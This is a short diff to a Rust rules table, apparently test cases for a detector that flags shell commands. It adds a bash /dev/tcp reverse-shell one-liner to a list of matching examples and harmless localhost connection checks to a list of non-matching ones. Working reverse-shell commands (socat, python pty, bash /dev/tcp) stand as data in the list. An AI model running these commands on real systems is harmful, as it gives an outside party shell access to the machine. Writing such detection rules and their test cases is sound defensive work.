@@ -25,10 +25,13 @@ pub(super) static RULES: &[Rule] = &[
             "socat TCP:10.0.0.1:4242 EXEC:/bin/sh",
             "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
             "exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done",
+            "bash -c 'exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196'",
         ],
         spares: &[
             "nc -z localhost 80",
             "cat < /dev/tcp/time.nist.gov/13",
+            "timeout 1 bash -c '</dev/tcp/localhost/5432'",
+            "bash -c 'exec 3<>/dev/tcp/localhost/80; echo GET / >&3; cat <&3'",
             "python3 -c 'import socket; print(socket.gethostname())'",
             "socat - TCP:localhost:80",
         ],
